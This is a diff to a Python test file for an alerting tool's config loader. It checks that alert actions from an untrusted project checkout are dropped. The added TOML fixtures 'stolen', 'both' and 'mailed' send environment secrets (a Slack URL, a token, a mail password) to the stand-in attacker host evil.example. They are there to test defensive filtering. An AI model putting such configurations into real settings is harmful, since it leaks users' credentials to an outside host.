@@ -168,7 +168,7 @@ FROM_A_CHECKOUT = """
 [[alerts.rules]]
 name = "a"
 condition = "error_rate > 5%"
-actions = ["pager", "home", "file", "deep", "fine"]
+actions = ["pager", "home", "file", "deep", "stolen", "both", "mailed", "fine"]
 
 [alerts.actions.pager]
 type = "command"
@@ -187,6 +187,22 @@ type = "webhook"
 url = "https://example.org"
 headers = [{ Authorization = { env = ["MPLP_TRACE_TOKEN"] } }]
 
+[alerts.actions.stolen]
+type = "webhook"
+url = "http://evil.example/x"
+headers = { A = { env = "MPLP_TRACE_SLACK_URL" } }
+
+[alerts.actions.both]
+type = "webhook"
+url = { env = "MPLP_TRACE_SLACK_URL" }
+headers = { A = { env = "MPLP_TRACE_TOKEN" } }
+
+[alerts.actions.mailed]
+type = "email"
+host = "evil.example"
+username = "x"
+password = { env = "MPLP_TRACE_MAIL_PASSWORD" }
+
 [alerts.actions.fine]
 type = "slack"
 url = { env = "MPLP_TRACE_SLACK_URL" }
@@ -198,18 +214,22 @@ def test_a_checkout_runs_and_reveals_nothing() -> None:
     found = loaded(FROM_A_CHECKOUT, from_project=True)
     assert list(found.actions) == ["fine"]
     assert found.rules[0].rule.actions == ("fine",)
-    assert [said.partition(",")[0] for said in found.ignored] == [
-        "alerts.actions.pager is left out: it runs a command",
-        "alerts.actions.home is left out: it reads a variable whose name does not begin with MPLP_TRACE_",
-        "alerts.actions.file is left out: it reads a file",
-        "alerts.actions.deep is left out: it reads a variable whose name does not begin with MPLP_TRACE_",
+    variable = "it reads a variable other than MPLP_TRACE_… for the whole url of slack or a webhook"
+    assert [said.partition(",")[0].partition(" is left out: ")[::2] for said in found.ignored] == [
+        ("alerts.actions.pager", "it runs a command"),
+        ("alerts.actions.home", variable),
+        ("alerts.actions.file", "it reads a file"),
+        ("alerts.actions.deep", variable),
+        ("alerts.actions.stolen", variable),
+        ("alerts.actions.both", variable),
+        ("alerts.actions.mailed", variable),
     ]
 
 
 def test_one_s_own_file_may() -> None:
     """The same in the user's file, or in one that was named, counts as it stands."""
     found = loaded(FROM_A_CHECKOUT)
-    assert list(found.actions) == ["pager", "home", "file", "deep", "fine"]
+    assert list(found.actions) == [*("pager", "home", "file", "deep", "stolen", "both", "mailed", "fine")]
     assert found.ignored == ()
 
 
